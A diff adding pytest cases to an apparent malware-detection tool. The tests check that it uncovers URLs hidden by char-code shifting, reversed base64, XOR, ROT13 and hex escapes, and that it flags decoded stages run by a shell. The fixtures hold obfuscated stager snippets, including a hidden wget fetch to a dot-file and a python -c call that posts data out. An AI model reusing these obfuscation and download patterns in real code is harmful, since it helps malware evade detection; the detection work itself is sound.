@@ -9,6 +9,7 @@ import codecs
 import gzip
 import random
 from dataclasses import replace
+from pathlib import Path
 
 import pytest
 
@@ -17,6 +18,7 @@ from detonate.detect.interface import RunView
 from detonate.detect.provenance.encoded import hidden
 from detonate.model.events import DataWritten
 from detonate.model.findings import Finding
+from detonate.model.runtime import ChangeKind, ContentType, FileChange
 
 from .stream import Stream
 
@@ -112,3 +114,62 @@ def test_a_program_that_holds_its_commands_in_the_clear_decoded_nothing() -> Non
 def test_a_url_given_on_the_command_line_was_not_decoded() -> None:
     binary = _in_binary(base64.b64encode(URL.encode()))  # e.g. a default also kept encoded
     assert _detect(_fed_shell_run(binary, argv_url=True)) == {}
+
+
+def test_char_codes_shifted_by_a_constant_are_found_in_program_text() -> None:
+    codes = ", ".join(str(b + 3) for b in URL.encode())
+    script = f"const s = [{codes}].map(c => String.fromCharCode(c - 3)).join('');\n".encode()
+    assert hidden(script, [URL]) == {URL: "decimal char codes shifted by 3"}
+
+
+def test_a_reversed_base64_literal_of_a_script_is_decoded_and_searched() -> None:
+    stage = f"use IO::Socket; my $u = '{URL}';"
+    literal = base64.b64encode(stage.encode()).decode()[::-1]
+    script = f"EXT = '{literal[:30]}' \\\n  '{literal[30:]}'\nputs EXT.reverse.unpack1('m')\n"
+    found = hidden(script.replace("' \\\n  '", "").encode(), [URL])  # joined as embedded.py does
+    assert found == {URL: "plain in a reversed literal"}
+
+
+def test_hex_fragments_xored_with_a_key_are_found() -> None:
+    blob = _xor(b"login to " + URL.encode(), b"k3y").hex()
+    script = f"my $x = pack('H*', '{blob}'); $x ^= 'k3y' x 40;\n".encode()
+    assert "XOR'd with the 3-byte key" in hidden(script, [URL])[URL]
+
+
+def test_a_comment_naming_the_stage_does_not_hide_that_the_code_holds_it_rot13d(
+    tmp_path: Path,
+) -> None:
+    """Perl rot13s a literal into a file that sh then sources; the decoded text in a comment
+    of the script is not code."""
+    rot = codecs.encode(STAGE, "rot13")
+    script = (
+        f'#!/usr/bin/perl\n# it is: {STAGE}\nmy $e = "{rot}";\n'
+        "(my $p = $e) =~ tr/A-Za-z/N-ZA-Mn-za-m/;\n"
+    )
+    s = Stream()
+    s.exec(1, "perl", "/opt/sync.pl", path="/usr/bin/perl")
+    s.write(1, "/tmp/.env")
+    s.spawn(1, 2, "sh", "-c", ". /tmp/.env", path="/bin/sh")
+    s.spawn(2, 3, "wget", "-q", "-O", "/var/tmp/.kx", URL, path="/usr/bin/wget")
+    s.files.append(FileChange("/tmp/.env", ChangeKind.CREATED, ContentType.SCRIPT, artifact="env"))
+    written = tmp_path / "env"
+    written.write_text(STAGE + "\n")
+    view = replace(
+        s.view(), image_files={"/opt/sync.pl": script.encode()}, artifacts_dir=written.parent
+    )
+    found = _detect(view)
+    assert "decode-to-shell" in found
+    text = " ".join(e.description for e in found["decode-to-shell"].evidence)
+    assert "/opt/sync.pl holds it ROT13" in text and "sourced" in text
+
+
+def test_a_compiled_program_passing_a_decoded_python_stage_to_python_c() -> None:
+    code = f"import urllib.request; urllib.request.urlopen('{URL}', data=b'x')"
+    escaped = "".join(f"\\x{b:02x}" for b in code.encode()).encode()
+    s = Stream()
+    s.exec(1, "pyshim", path="/usr/local/bin/pyshim")
+    s.spawn(1, 2, "python3", "-c", code, path="/usr/bin/python3")
+    view = replace(s.view(), image_files={"/usr/local/bin/pyshim": _in_binary(escaped)})
+    found = _detect(view)
+    assert "decode-to-shell" in found
+    assert any("\\x escapes" in e.description for e in found["decode-to-shell"].evidence)
